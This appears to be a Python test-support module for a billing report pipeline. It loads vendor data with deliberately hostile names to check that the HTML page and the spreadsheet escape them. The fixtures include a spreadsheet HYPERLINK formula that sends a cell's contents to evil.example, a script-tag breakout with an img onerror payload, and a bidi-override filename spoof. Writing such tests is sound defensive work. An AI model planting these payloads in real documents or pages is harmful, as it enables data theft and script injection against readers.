"""A report with hostile names, and its HTML taken apart: for the tests of the page and of the spreadsheet."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from pax8_pipeline.billing.planning.planner import make_plan
from pax8_pipeline.reports import plan_report
from pax8_pipeline.reports.page.context import ReportContext
from pax8_pipeline.settings import Policy, UsagePolicy
from pax8_pipeline.warehouse import build
from pax8_pipeline.warehouse.connection import Warehouse
from pax8_pipeline_tests.support.built_tables import build_all
from pax8_pipeline_tests.support.usage_checks import bill, item, items_read, usage_warehouse
from pax8_pipeline_tests.support.vendor_data import TODAY, company, plan_context, subscription

POLICY = Policy(usage=UsagePolicy(first_month="2026-07"))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Acme")'
SCRIPT = "</script></td></table><script>alert(1)</script><img src=http://evil.example/x onerror=alert(1)>"
BIDI = "Acme \u202egnp.exe\u202c \x1b[31mred"
LONG = "Very long name without a blank " + "x" * 400
NEW_SUB = "d3c9bae1-7045-4b70-9b2c-408daf6e2b13"


@dataclass(frozen=True)
class Made:
    """A report that was written: its warehouse, plan and page."""

    warehouse: Warehouse
    plan_id: str
    page: Path

    @property
    def html(self) -> str:
        return self.page.read_text(encoding="utf-8")


def hostile_names(folder: Path) -> Warehouse:
    """Load vendor data with a change, a loss, usage of two months, and names that try to be something else."""
    june = item(**{"startPeriod": "2026-06-01", "endPeriod": "2026-06-30", "total": 20})
    warehouse = usage_warehouse(
        folder,
        item(productName=SCRIPT),
        item(companyId=None, details=FORMULA, total=30, costTotal=21),
        bills=[bill("i0", invoiceDate="2026-07-01")],
        more=[items_read([june], "i0")],
        companies=[company()],
        clients=[{"id": 231, "name": BIDI, "inactive": False, "currencyisocode": "USD"}],
        subscriptions=[
            subscription(quantity=25, productName=FORMULA),
            subscription(id=NEW_SUB, productName=LONG, price=1234.5, partnerCost=1000),
        ],
    )
    build_all(warehouse, (*build.STAGING, *build.RECONCILED), build.variables(TODAY, POLICY))
    return warehouse


def write_page(warehouse: Warehouse, folder: Path, context: ReportContext | None = None) -> Made:
    """Make a plan and its report."""
    plan_id = make_plan(warehouse, plan_context(policy=POLICY)).plan_id
    context = context or ReportContext(POLICY.usage.first_month, policy_known=True)
    return Made(warehouse, plan_id, plan_report.write_report(warehouse, plan_id, folder / "reports", context))


@dataclass
class Outline(HTMLParser):
    """What a page is made of: every start tag with its attributes, and the text of each table by its caption."""

    tags: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    tables: dict[str, list[list[str]]] = field(default_factory=dict)
    text: list[str] = field(default_factory=list)
    _rows: list[list[str]] = field(default_factory=list)
    _caption: str | None = None
    _in: str = ""

    def __post_init__(self) -> None:
        HTMLParser.__init__(self)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "table":
            self._rows, self._caption = [], ""
        if tag == "tr":
            self._rows.append([])
        if tag in ("th", "td"):
            self._rows[-1].append("")
        if tag in ("th", "td", "caption", "script", "style"):
            self._in = tag

    def handle_endtag(self, tag: str) -> None:
        if tag == self._in:
            self._in = ""
        if tag == "table":
            self.tables[str(self._caption).split(" (")[0]] = self._rows

    def handle_data(self, data: str) -> None:
        if self._in in ("th", "td"):
            self._rows[-1][-1] += data
        elif self._in == "caption":
            self._caption = (self._caption or "") + data
        if self._in not in ("script", "style"):
            self.text.append(data)

    def found(self, tag: str) -> list[dict[str, str | None]]:
        """Return the attributes of every element of one kind."""
        return [attributes for name, attributes in self.tags if name == tag]


def outline(html: str) -> Outline:
    """Take a page apart."""
    parsed = Outline()
    parsed.feed(html)
    return parsed


def cells(made: Made, query: str) -> list[Any]:
    """Return the rows of a query on the warehouse of a report."""
    with made.warehouse.connect() as connection:
        return connection.execute(query).fetchall()
